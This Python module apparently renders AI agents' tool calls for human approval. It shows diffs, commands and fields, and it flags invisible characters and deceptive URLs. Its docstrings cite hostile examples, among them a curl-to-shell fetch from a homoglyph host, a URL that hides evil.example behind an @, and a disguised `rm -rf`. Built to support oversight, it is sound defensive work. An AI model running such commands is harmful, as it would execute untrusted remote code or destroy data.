"""A tool call as people know it: the file and its diff, the command, the arguments.

`ToolUse` is what an agent asks to run: the tool's name and input, the session's working
directory and, from the command hook (which runs where the agent runs), the text of the file
the call changes. `tool_view` turns it into a `ToolView`: typed facts (a title, diffs with line
numbers, a command, named values, notes) with no markup, computed once when the request is made
and kept with it, so every surface shows the same thing in its own words and escaping.
"""

from __future__ import annotations

import difflib
import json
import re
import shlex
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Annotated, Any, Literal

from pydantic import BaseModel, ConfigDict, Field

from askbridge.core.graphemes import cut_point
from askbridge.core.text_direction import REORDERING

MAX_FILE_CHARS = 200_000
"""The most of a file's text an ask may carry."""
MAX_FILE_BYTES = 64 * 1024
"""The longest file (in UTF-8) the command hook sends along, beside an input of at most the
same size: the ask stays well within the server's ASKBRIDGE_MAX_BODY_BYTES (256 KiB by
default). A longer file is left out and the change shown without line numbers."""
CONTEXT_LINES = 3
"""Unchanged lines shown around each change when the file is known."""
MCP_PREFIX = "mcp__"


class _Frozen(BaseModel):
    model_config = ConfigDict(frozen=True, extra="ignore")


class FileText(_Frozen):
    """A file as the hook found it on the agent's machine: its text, or None when it does not
    exist (a Write then makes a new file)."""

    path: str
    text: str | None = Field(default=None, max_length=MAX_FILE_CHARS)


class ToolUse(_Frozen):
    """What an agent asks to run."""

    name: str = Field(min_length=1, max_length=200)
    input: dict[str, Any] = Field(
        default_factory=dict, description="the tool's input; absent: the ask's subject"
    )
    cwd: str = Field(default="", max_length=4096)
    file: FileText | None = Field(
        default=None, description="the file the call changes, as the agent's machine has it"
    )


class DiffLine(_Frozen):
    """One line of a diff: `sign` "-" removed, "+" added, " " unchanged; `old`/`new` its line
    numbers before and after (None where it has none, or where the file is not known)."""

    sign: Literal[" ", "-", "+"]
    text: str
    old: int | None = None
    new: int | None = None


class Hunk(_Frozen):
    lines: tuple[DiffLine, ...]

    def header(self) -> str | None:
        """`@@ -12,3 +12,4 @@` when the line numbers are known, as `diff -u` heads a hunk."""
        olds = [line.old for line in self.lines if line.old is not None]
        news = [line.new for line in self.lines if line.new is not None]
        if not olds and not news:
            return None
        old_start = olds[0] if olds else _before(self.lines, "old")
        new_start = news[0] if news else _before(self.lines, "new")
        return f"@@ -{old_start},{len(olds)} +{new_start},{len(news)} @@"


def _before(lines: Sequence[DiffLine], side: Literal["old", "new"]) -> int:
    # A hunk with no line on one side starts, as diff -u says it, after the line before it.
    for line in lines:
        number = line.new if side == "old" else line.old
        if number is not None:
            return max(number - 1, 0)
    return 0


class Diff(_Frozen):
    """A change to a file, in hunks."""

    kind: Literal["diff"] = "diff"
    path: str
    hunks: tuple[Hunk, ...]

    def lines(self) -> list[str]:
        """The diff as text lines (hunk headers, then "-old", "+new", " same"), as a chat
        message shows it; several hunks without line numbers are parted by "…"."""
        out: list[str] = []
        for index, hunk in enumerate(self.hunks):
            header = hunk.header()
            if header is not None:
                out.append(header)
            elif index:
                out.append("…")
            out.extend(f"{line.sign}{line.text}" for line in hunk.lines)
        return out


class Code(_Frozen):
    """A text shown verbatim, with its line breaks: a command, a prompt, a cell's source."""

    kind: Literal["code"] = "code"
    label: str = ""
    """What the text is ("Prompt", "New source"); empty when the call's title already says it
    ("Run a command", "Approve the plan"), so that a person reads it once."""
    text: str


class Named(_Frozen):
    name: str
    value: str


class Fields(_Frozen):
    """Named values, each value as text (a string as it is, anything else as JSON)."""

    kind: Literal["fields"] = "fields"
    fields: tuple[Named, ...]


class Note(_Frozen):
    """A sentence about the call ("Replaces every occurrence", "The old text is not in the
    file: the edit would fail")."""

    kind: Literal["note"] = "note"
    text: str


Part = Annotated[Diff | Code | Fields | Note, Field(discriminator="kind")]


class ToolView(_Frozen):
    """What a person sees of a tool call: a title naming what it does and touches ("Edit
    app/settings.py", "Run a command"; a tool askbridge does not know: its name), then its
    parts in order."""

    tool: str
    title: str
    parts: tuple[Part, ...] = ()
    asked: dict[str, Any] | None = None
    """The input as asked, kept when people may change it before allowing (`core.changes`)."""
    cwd: str = ""
    full_view: str | None = None
    """The link to the request's page, which shows the whole call: for a message that must
    cut it (`core.public_links`; only when ASKBRIDGE_PUBLIC_URL is set)."""

    @property
    def action(self) -> str:
        """The title as what the tool asks to do ("edit app/settings.py"); "run" for a tool
        askbridge does not know."""
        if self.title == self.tool:
            return "run"
        return self.title[:1].lower() + self.title[1:]


TITLE_CHARS = 300
"""The most of a title a chat message shows: a longer one (a deep path) is cut, and counts as
cut (`is_cut`)."""
NAME_CHARS = 100
"""The most of a value's name (an argument's) a chat message shows: a longer one is cut, and
counts as cut (`fields_cut`); two names may differ only past it."""
FULL_VIEW = "See all of it on the web page"
"""The link a message that cut a diff or a command gives to the whole of it."""


@dataclass(frozen=True)
class Fitted:
    """Lines cut to what a chat message holds: how many were left out, and how many of those
    kept were cut short (the end of a long line)."""

    lines: tuple[str, ...]
    hidden: int
    shortened: int = 0

    @property
    def hidden_line(self) -> str | None:
        """What a message says of what it left out; None when it left nothing out. A line cut
        short counts as much as one left out: a command may differ only after the cut."""
        more = f"{self.hidden} more line{'s' if self.hidden > 1 else ''}" if self.hidden else ""
        ends = ""
        if self.shortened:
            ends = (
                "The end of 1 line"
                if self.shortened == 1
                else f"The ends of {self.shortened} lines"
            )
        if ends and more:
            return f"{ends} and {more} are not shown here"
        if ends or more:
            one = (self.shortened or self.hidden) == 1
            return f"{ends or more} {'is' if one else 'are'} not shown here"
        return None


def fitted(lines: Sequence[str], max_lines: int, max_chars: int, line_chars: int = 300) -> Fitted:
    """The first of `lines` that fit in `max_lines` lines and `max_chars` characters, each cut
    to `line_chars`: a chat message shows the start of a long diff or command, and says how
    much is left (`Fitted.hidden_line`)."""
    kept: list[str] = []
    used = shortened = 0
    for line in lines:
        cut = len(line) > line_chars
        if cut:
            line = line[: cut_point(line, line_chars - 1)] + "…"
        if len(kept) == max_lines or used + len(line) + 1 > max_chars:
            break
        kept.append(line)
        used += len(line) + 1
        shortened += cut
    return Fitted(tuple(kept), len(lines) - len(kept), shortened)


def fields_cut(part: Fields, max_fields: int, value_chars: int) -> bool:
    """Whether a message that shows `max_fields` of `part`'s values, each cut to `value_chars`
    and its name to NAME_CHARS, leaves some of them out."""
    shown = part.fields[:max_fields]
    return len(part.fields) > max_fields or any(
        len(f.value) > value_chars or len(f.name) > NAME_CHARS for f in shown
    )


def is_cut(
    tool: ToolView,
    max_lines: int,
    max_chars: int,
    max_parts: int,
    *,
    max_fields: int,
    value_chars: int,
) -> bool:
    """Whether a message that shows `max_parts` parts, each diff or command `fitted` to
    `max_lines` and `max_chars` and each part's named values as `fields_cut` says, leaves some
    of `tool` out; so does a title past TITLE_CHARS, and a note past `value_chars`, which is cut
    as a value is: a note quotes the call (a lookalike host), and may be as long."""
    if len(tool.parts) > max_parts or len(tool.title) > TITLE_CHARS:
        return True
    for part in tool.parts:
        if isinstance(part, Note) and len(part.text) > value_chars:
            return True
        if isinstance(part, Diff):
            lines = part.lines()
        elif isinstance(part, Code):
            lines = part.text.split("\n")
        elif isinstance(part, Fields):
            if fields_cut(part, max_fields, value_chars):
                return True
            continue
        else:
            continue
        if fitted(lines, max_lines, max_chars).hidden_line is not None:
            return True
    return False


def tool_view(use: ToolUse, *, keep_input: bool = False) -> ToolView:
    """The call as people know it; a tool askbridge does not know shows its input as fields.
    `keep_input`: the view keeps the input and working directory, for people to change."""
    shown = _readable(_with_hosts(_shown(use), use), use)
    if keep_input:
        return shown.model_copy(update={"asked": dict(use.input), "cwd": use.cwd})
    return shown


INVISIBLE = frozenset(
    [chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]
    + list("\u00ad\u115f\u1160\u180e\u200b\u2060\u2061\u2062\u2063\u2064\u3164\ufeff\uffa0")
)
"""Characters a message shows as nothing, or as a space or a line break that is none: control
characters but the tab and the line feed (a carriage return ends a line of Python, yet a chat
message shows it as a space), and those of no width (U+200B). The joiners U+200C and U+200D
are let through: emoji and scripts are written with them."""
SPACES = frozenset(
    "\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a"
    "\u2028\u2029\u202f\u205f\u3000"
)
"""Every space and line separator of Unicode but the ASCII space (categories Zs, Zl, Zp): a
message shows each as a space or a line break, yet a shell or a compiler reads none of them as
one (`rm\u00a0-rf` is one word)."""
_CODE_POINTS = {ord(c): f"<U+{ord(c):04X}>" for c in REORDERING | INVISIBLE | SPACES}
_WHITE = {ord(c): f"<U+{ord(c):04X}>" for c in " \t\n"}
"""The space, the tab and the line feed by code point, where `_Spaced` shows them."""
_LOOSE = re.compile(r"^ +| +$| {2,}|[\t\n]")
"""The white space of a name that a one-line text would join or drop: a line break, a tab, a
space it starts or ends with, two spaces or more."""


_HIDDEN_KINDS = (
    (
        REORDERING,
        "an invisible character that reorders the text around it",
        "invisible characters that reorder the text around them",
    ),
    (INVISIBLE, "an invisible or control character", "invisible or control characters"),
    (SPACES, "a space other than the ASCII space", "spaces other than the ASCII space"),
)
"""Each kind of character a call shows by code point, as its note says one and several."""


def _readable(view: ToolView, use: ToolUse) -> ToolView:
    """`view` with each character that would reorder what people read (`REORDERING`), or that
    they cannot see (`INVISIBLE`, `SPACES`), written as its code point, `<U+202E>`, and a note
    saying so: an approver sees the call in the order it runs (a command holding U+202E shows
    its end first), and two calls that differ only there do not look the same. So are the
    white space at the end of a line, and tabs within one, everywhere but on a diff's unchanged
    lines (`_Spaced`). The call itself keeps them. Each is counted once, as the call holds it
    (`_held`), however often it is shown: a host in its own note, a path in the title too."""
    shown = view.model_dump()
    found = [c for text in _texts(shown) for c in text if ord(c) in _CODE_POINTS]
    held = [c for text in _held(use, view) for c in text if ord(c) in _CODE_POINTS]
    notes = []
    for kind, one, many in _HIDDEN_KINDS:
        counted = _counted(kind, found, held)
        if counted:
            what = one if len(counted) == 1 else f"{len(counted)} {many}"
            notes.append(_noted(what, counted[0]))
    readable = ToolView.model_validate(_translated(shown)) if found else view
    spaced = _Spaced()
    title = spaced.text(readable.title)
    parts = tuple(spaced.part(part) for part in readable.parts)
    return readable.model_copy(update={"title": title, "parts": (*parts, *notes, *spaced.notes())})


def _counted(kind: frozenset[str], found: Sequence[str], held: Sequence[str]) -> list[str]:
    """Those of `kind` the call holds, once each, when the view shows any of them (a carriage
    return of a line break is said by its own note, not shown); one at least, as shown."""
    if not any(c in kind for c in found):
        return []
    return [c for c in held if c in kind] or [c for c in found if c in kind][:1]


@dataclass
class _Spaced:
    """What a message cannot show of a line's white space, shown by code point in the call's
    title, commands, verbatim texts and named values: a tab within a line, which looks like
    spaces (`a\\tb`), and the spaces and tabs a line ends with (`x = 1 ` looks like `x = 1`;
    `\\ ` ends no line of a shell command; `a.py ` is another file). A line indented with tabs
    alone keeps them as they are: Go and Makefiles are written so, and every changed line of
    theirs would read `<U+0009>` before anything else; a code block shows a tab wider than a
    space. Of a diff, only on its changed lines: the unchanged ones are the file's, not the
    call's."""

    tabs: int = 0
    ending: list[str] = field(default_factory=list)
    """The first white space character of each line that ends with some."""
    names: list[str] = field(default_factory=list)
    """The first white space character of each name that `name` shows by code point."""

    def part(self, part: Part) -> Part:
        if isinstance(part, Diff):
            hunks = tuple(
                Hunk(
                    lines=tuple(
                        line
                        if line.sign == " "
                        else line.model_copy(update={"text": self.line(line.text)})
                        for line in hunk.lines
                    )
                )
                for hunk in part.hunks
            )
            return part.model_copy(update={"hunks": hunks})
        if isinstance(part, Code):
            return part.model_copy(update={"text": self.text(part.text)})
        if isinstance(part, Fields):
            fields = tuple(
                f.model_copy(update={"name": self.name(f.name), "value": self.text(f.value)})
                for f in part.fields
            )
            return part.model_copy(update={"fields": fields})
        return part

    def name(self, text: str) -> str:
        """A value's name, which a message shows on one line, words apart by one space: its
        other white space by code point, so `a  b`, `a b` and `a<newline>b` never look alike."""
        loose = _LOOSE.search(text)
        if loose is None:
            return text
        self.names.append(loose.group()[0])
        return _LOOSE.sub(lambda found: found.group().translate(_WHITE), text)

    def text(self, text: str) -> str:
        return "\n".join(self.line(line) for line in text.split("\n"))

    def line(self, text: str) -> str:
        body = text.rstrip(" \t")
        if len(body) < len(text):
            self.ending.append(text[len(body)])
        inner = body.lstrip("\t")
        self.tabs += inner.count("\t")
        indent = body[: len(body) - len(inner)]
        return indent + inner.replace("\t", _WHITE[ord("\t")]) + text[len(body) :].translate(_WHITE)

    def notes(self) -> tuple[Note, ...]:
        notes: list[Note] = []
        if self.tabs:
            what = "a tab" if self.tabs == 1 else f"{self.tabs} tabs"
            notes.append(_noted(what, "\t"))
        if self.ending:
            what = (
                "a line that ends in white space"
                if len(self.ending) == 1
                else f"{len(self.ending)} lines that end in white space"
            )
            notes.append(_noted(what, self.ending[0]))
        if self.names:
            what = (
                "a name with white space a message would not show"
                if len(self.names) == 1
                else f"{len(self.names)} names with white space a message would not show"
            )
            notes.append(_noted(what, self.names[0]))
        return tuple(notes)


def _noted(what: str, first: str) -> Note:
    shown = _CODE_POINTS.get(ord(first)) or _WHITE[ord(first)]
    return Note(text=f"Holds {what}, shown here by code point ({shown})")


def _held(use: ToolUse, view: ToolView) -> Iterator[str]:
    """Every text of the call once: its tool's name, its working directory, its input's names
    and values, and the lines of the file a diff shows unchanged, which are the file's own."""
    yield use.name
    yield use.cwd
    yield from (text for _, text in _strings(use.input))
    yield from _names(use.input)
    for part in view.parts:
        if isinstance(part, Diff):
            yield from (line.text for h in part.hunks for line in h.lines if line.sign == " ")


def _names(value: Any) -> Iterator[str]:
    """Every name in a tool's input, at any depth."""
    if isinstance(value, Mapping):
        for name, item in value.items():
            yield str(name)
            yield from _names(item)
    elif isinstance(value, list):
        for item in value:
            yield from _names(item)


def _texts(value: Any) -> Iterator[str]:
    """Every text in a view as `model_dump` gives it."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _texts(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from _texts(item)


def by_code_point(text: str) -> str:
    """`text` with each character that would reorder or hide what people read written as its
    code point, as a tool call shows it (`_readable`)."""
    return text.translate(_CODE_POINTS)


def _translated(value: Any) -> Any:
    """`value`, as `model_dump` gives it, with each text's characters by code point."""
    if isinstance(value, str):
        return by_code_point(value)
    if isinstance(value, dict):
        return {key: _translated(item) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [_translated(item) for item in value]
    return value


def _shown(use: ToolUse) -> ToolView:
    shower = _SHOWERS.get(use.name)
    if shower is not None:
        return shower(use)
    if use.name.startswith(MCP_PREFIX) and use.name.count("__") >= 2:
        server, _, tool = use.name.removeprefix(MCP_PREFIX).partition("__")
        title = f"Use the MCP tool {tool} of the server {server}"
        return ToolView(tool=use.name, title=title, parts=_fields(use.input))
    return ToolView(tool=use.name, title=use.name, parts=_fields(use.input))


# ---- files -----------------------------------------------------------------------------------


def shown_path(path: str, cwd: str) -> str:
    """`path` relative to the session's working directory when it lies inside it."""
    root = cwd.rstrip("/")
    if root and path.startswith(root + "/"):
        return path[len(root) + 1 :]
    return path


def _known(use: ToolUse, path: str) -> FileText | None:
    """The hook's copy of `path`, when it sent one."""
    return use.file if use.file is not None and use.file.path == path else None


def _edit(use: ToolUse) -> ToolView:
    path = _text(use.input.get("file_path"))
    replace_all = use.input.get("replace_all") is True
    edits = [(_text(use.input.get("old_string")), _text(use.input.get("new_string")), replace_all)]
    own = ("file_path", "old_string", "new_string", "replace_all")
    return _edits(use, "Edit", path, edits, own)


def _multi_edit(use: ToolUse) -> ToolView:
    path = _text(use.input.get("file_path"))
    raw = use.input.get("edits")
    edits = [
        (_text(e.get("old_string")), _text(e.get("new_string")), e.get("replace_all") is True)
        for e in (raw if isinstance(raw, list) else [])
        if isinstance(e, Mapping)
    ]
    return _edits(use, "MultiEdit", path, edits, ("file_path", "edits"))


def _edits(
    use: ToolUse,
    tool: str,
    path: str,
    edits: Sequence[tuple[str, str, bool]],
    own: Sequence[str],
) -> ToolView:
    title = f"Edit {shown_path(path, use.cwd)}"
    parts: list[Diff | Code | Fields | Note] = []
    if any(replace for _, _, replace in edits):
        many = "every occurrence" if len(edits) == 1 else "every occurrence where marked"
        parts.append(Note(text=f"Replaces {many} of the old text, not only the first"))
    known = _known(use, path)
    text = known.text if known is not None else None
    if text is not None:
        after, missing = _apply(text, edits)
        if not missing:
            parts += [Diff(path=path, hunks=_hunks(text, after)), *_line_breaks(text, after)]
            return ToolView(tool=tool, title=title, parts=(*parts, *_fields(use.input, own)))
        which = ", ".join(str(i + 1) for i in missing) if len(edits) > 1 else ""
        parts.append(
            Note(
                text=f"The old text{f' of edit {which}' if which else ''} is not in the file: "
                "the edit would fail"
            )
        )
    hunks = [h for old, new, _ in edits for h in _hunks(old, new, numbered=False)]
    parts.append(Diff(path=path, hunks=tuple(hunks)))
    # Each note once, in the order of the edits.
    parts += dict.fromkeys(note for old, new, _ in edits for note in _line_breaks(old, new))
    return ToolView(tool=tool, title=title, parts=(*parts, *_fields(use.input, own)))


def _apply(text: str, edits: Sequence[tuple[str, str, bool]]) -> tuple[str, list[int]]:
    """`text` with the edits made in order, and the edits whose old text was not found."""
    missing: list[int] = []
    for index, (old, new, replace_all) in enumerate(edits):
        if not old or old not in text:
            missing.append(index)
            continue
        text = text.replace(old, new) if replace_all else text.replace(old, new, 1)
    return text, missing


def _write(use: ToolUse) -> ToolView:
    path = _text(use.input.get("file_path"))
    content = _text(use.input.get("content"))
    known = _known(use, path)
    own = ("file_path", "content")
    if known is not None and known.text is not None:
        title = f"Overwrite {shown_path(path, use.cwd)}"
        diff = Diff(path=path, hunks=_hunks(known.text, content))
        breaks = _line_breaks(known.text, content)
        return ToolView(tool="Write", title=title, parts=(diff, *breaks, *_fields(use.input, own)))
    parts: list[Diff | Code | Fields | Note] = []
    if known is not None:
        parts.append(Note(text="A new file"))
    lines = tuple(
        DiffLine(sign="+", text=line, new=number)
        for number, line in enumerate(content.splitlines(), 1)
    )
    parts.append(Diff(path=path, hunks=(Hunk(lines=lines),) if lines else ()))
    title = f"Write {shown_path(path, use.cwd)}"
    return ToolView(tool="Write", title=title, parts=(*parts, *_fields(use.input, own)))


_BREAKS = {"\r\n": "CRLF", "\n": "LF", "\r": "CR"}


def _line_breaks(before: str, after: str) -> tuple[Note, ...]:
    """What a diff of lines cannot show: line breaks written otherwise (CRLF for LF, which a
    shell script or a batch file runs otherwise), and the last line break added or left out."""
    notes: list[Note] = []
    was, now = _breaks(before), _breaks(after)
    if was and now and was != now:
        notes.append(
            Note(text=f"Line breaks change from {_named_breaks(was)} to {_named_breaks(now)}")
        )
    ended, ends = before.endswith(("\n", "\r")), after.endswith(("\n", "\r"))
    if before and after and ended != ends:
        notes.append(
            Note(
                text="Adds a line break at the end"
                if ends
                else "Leaves out the line break at the end"
            )
        )
    return tuple(notes)


def _breaks(text: str) -> frozenset[str]:
    """The kinds of line break `text` holds."""
    found = {line[len(line.rstrip("\r\n")) :] for line in text.splitlines(keepends=True)}
    return frozenset(found & _BREAKS.keys())


def _named_breaks(kinds: frozenset[str]) -> str:
    return " and ".join(_BREAKS[kind] for kind in _BREAKS if kind in kinds)


def _hunks(before: str, after: str, *, numbered: bool = True) -> tuple[Hunk, ...]:
    """The changes from `before` to `after`, line by line; with real line numbers and a few
    lines of context when `before` is the whole file, else every line of both."""
    old, new = before.splitlines(), after.splitlines()
    matcher = difflib.SequenceMatcher(None, old, new, autojunk=False)
    context = CONTEXT_LINES if numbered else max(len(old), len(new))
    hunks: list[Hunk] = []
    for group in matcher.get_grouped_opcodes(context):
        lines: list[DiffLine] = []
        for tag, i1, i2, j1, j2 in group:
            if tag == "equal":
                shift = j1 - i1
                lines += [_line(" ", old[i], i + 1, i + shift + 1, numbered) for i in range(i1, i2)]
                continue
            lines += [_line("-", old[i], i + 1, None, numbered) for i in range(i1, i2)]
            lines += [_line("+", new[j], None, j + 1, numbered) for j in range(j1, j2)]
        hunks.append(Hunk(lines=tuple(lines)))
    return tuple(hunks)


def _line(
    sign: Literal[" ", "-", "+"], text: str, old: int | None, new: int | None, numbered: bool
) -> DiffLine:
    if not numbered:
        return DiffLine(sign=sign, text=text)
    return DiffLine(sign=sign, text=text, old=old, new=new)


def _notebook(use: ToolUse) -> ToolView:
    path = _text(use.input.get("notebook_path"))
    mode = _text(use.input.get("edit_mode")) or "replace"
    named = [("Cell", use.input.get("cell_id")), ("Cell type", use.input.get("cell_type"))]
    named.append(("Edit mode", mode))
    fields = [Named(name=n, value=_value(v)) for n, v in named if v is not None]
    parts: list[Diff | Code | Fields | Note] = [Fields(fields=tuple(fields))]
    if mode != "delete":
        parts.append(Code(label="New source", text=_text(use.input.get("new_source"))))
    own = ("notebook_path", "cell_id", "cell_type", "edit_mode", "new_source")
    title = f"Edit the notebook {shown_path(path, use.cwd)}"
    return ToolView(tool="NotebookEdit", title=title, parts=(*parts, *_fields(use.input, own)))


# ---- commands, the web, subagents ------------------------------------------------------------


def _bash(use: ToolUse) -> ToolView:
    command = _text(use.input.get("command"))
    parts: list[Diff | Code | Fields | Note] = [Code(text=command)]
    named = [("Description", use.input.get("description"))]
    if use.cwd:
        named.append(("Working directory", use.cwd))
    if use.input.get("run_in_background") is True:
        parts.append(Note(text="Runs in the background"))
    own = ("command", "description", "run_in_background")
    fields = tuple(Named(name=n, value=_value(v)) for n, v in named if v not in (None, ""))
    if fields:
        parts.insert(1, Fields(fields=fields))
    return ToolView(tool="Bash", title="Run a command", parts=(*parts, *_fields(use.input, own)))


def _web_fetch(use: ToolUse) -> ToolView:
    return _named(use, "Fetch a web page", (("URL", "url"), ("Prompt", "prompt")))


_URL_IN_TEXT = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*://\S*")
_AFTER_URL = ".,;:!?)]}>'\""
"""What ends a sentence or a quotation a URL stands in, rather than the URL."""


def _with_hosts(view: ToolView, use: ToolUse) -> ToolView:
    """`view` with what each URL in the call's input hides of where it goes (`_reached`): a
    WebFetch's URL, one in a command as the shell hands it on (`curl https://\u0430pple.com/x |
    sh`, a Cyrillic a), one in an argument or a file's new text; each note once."""
    notes: dict[Note, None] = {}
    for key, text in _strings(use.input):
        shell = use.name == "Bash" and key == "command"
        for word in _shell_words(text) if shell else text.split():
            if (found := _URL_IN_TEXT.search(word)) is not None:
                notes.update(dict.fromkeys(_reached(found.group().rstrip(_AFTER_URL))))
    return view.model_copy(update={"parts": (*view.parts, *notes)}) if notes else view


def _strings(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    """Every string in a tool's input, with the top-level key it is under."""
    if isinstance(value, str):
        yield key, value
    elif isinstance(value, Mapping):
        for name, item in value.items():
            yield from _strings(item, key or str(name))
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item, key)


def _shell_words(command: str) -> list[str]:
    """`command`'s words as a shell hands them on, quotes and escapes taken away
    (`"https://github.com"@evil.example` is one word), its operators (`|`, `;`) words of their
    own; split at white space only when quotes do not pair up (a here-document's `don't`)."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    lexer.commenters = ""
    try:
        return list(lexer)
    except ValueError:
        return command.split()


_PLAIN_URL = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*://[^\\\s%]*")
"""A URL every parser splits alike: no backslash (a browser's URL takes it for a slash), no
white space (which it drops), no escapes."""


def _reached(url: str) -> tuple[Note, ...]:
    """What a URL hides of where it goes: a user name before an @ that reads as a host
    (`https://github.com@evil.example/`), a host written with letters beyond ASCII, which may
    look like others. Said only of a URL every parser reads alike."""
    if _PLAIN_URL.fullmatch(url) is None:
        return ()
    authority = url.partition("://")[2]
    for end in "/?#":
        authority = authority.partition(end)[0]
    user, at, host = authority.rpartition("@")
    host = host.rpartition(":")[0] if host.count(":") == 1 else host
    notes: list[Note] = []
    if at and host:
        notes.append(
            Note(
                text=f"Goes to {host}; what stands before the @ ({user}) is sent there as a "
                "user name, not the host"
            )
        )
    if not host.isascii():
        notes.append(
            Note(
                text=f"The host {host} is written with letters beyond ASCII, which may look "
                "like others"
            )
        )
    return tuple(notes)


def _web_search(use: ToolUse) -> ToolView:
    named = (
        ("Query", "query"),
        ("Only these domains", "allowed_domains"),
        ("Not these domains", "blocked_domains"),
    )
    return _named(use, "Search the web", named)


def _plan(use: ToolUse) -> ToolView:
    """A plan to approve, as the text the model wrote (Markdown, its headings kept); Claude
    Code's hooks get it empty, the Agent SDK's can_use_tool with the plan."""
    plan = use.input.get("plan")
    parts: tuple[Diff | Code | Fields | Note, ...] = ()
    if isinstance(plan, str) and plan.strip():
        parts = (Code(text=plan),)
    else:
        parts = (Note(text="Claude Code did not send the plan; it is in the session"),)
    rest = _fields(use.input, ("plan",))
    return ToolView(tool=use.name, title="Approve the plan", parts=(*parts, *rest))


def _task(use: ToolUse) -> ToolView:
    kind = _text(use.input.get("subagent_type")) or "general-purpose"
    parts: list[Diff | Code | Fields | Note] = []
    if isinstance(description := use.input.get("description"), str) and description:
        parts.append(Fields(fields=(Named(name="Task", value=description),)))
    parts.append(Code(label="Prompt", text=_text(use.input.get("prompt"))))
    own = ("subagent_type", "description", "prompt")
    title = f"Start a subagent: {kind}"
    return ToolView(tool=use.name, title=title, parts=(*parts, *_fields(use.input, own)))


def _named(use: ToolUse, title: str, named: Iterable[tuple[str, str]]) -> ToolView:
    named = tuple(named)
    pairs = [(label, key) for label, key in named if use.input.get(key) not in (None, "", [])]
    fields = tuple(Named(name=label, value=_value(use.input[key])) for label, key in pairs)
    rest = _fields(use.input, [key for _, key in named])
    parts: tuple[Diff | Code | Fields | Note, ...] = (Fields(fields=fields),) if fields else ()
    return ToolView(tool=use.name, title=title, parts=(*parts, *rest))


# ---- anything else ---------------------------------------------------------------------------


def _fields(given: Mapping[str, Any], own: Iterable[str] = ()) -> tuple[Fields, ...]:
    """The input's other keys and their values, in the order the agent gave them."""
    left_out = set(own)
    fields = tuple(Named(name=k, value=_value(v)) for k, v in given.items() if k not in left_out)
    return (Fields(fields=fields),) if fields else ()


def _value(value: Any) -> str:
    """A value as text: a string as it is (its line breaks real), a list of strings one per
    line, anything else as indented JSON."""
    if isinstance(value, str):
        return value
    if isinstance(value, list) and all(isinstance(v, str) for v in value):
        return "\n".join(value)
    return json.dumps(value, indent=2, ensure_ascii=False)


def _text(value: Any) -> str:
    return value if isinstance(value, str) else "" if value is None else _value(value)


_SHOWERS: Mapping[str, Callable[[ToolUse], ToolView]] = {
    "Edit": _edit,
    "MultiEdit": _multi_edit,
    "Write": _write,
    "NotebookEdit": _notebook,
    "Bash": _bash,
    "WebFetch": _web_fetch,
    "WebSearch": _web_search,
    "Task": _task,
    "ExitPlanMode": _plan,
    "Agent": _task,
}
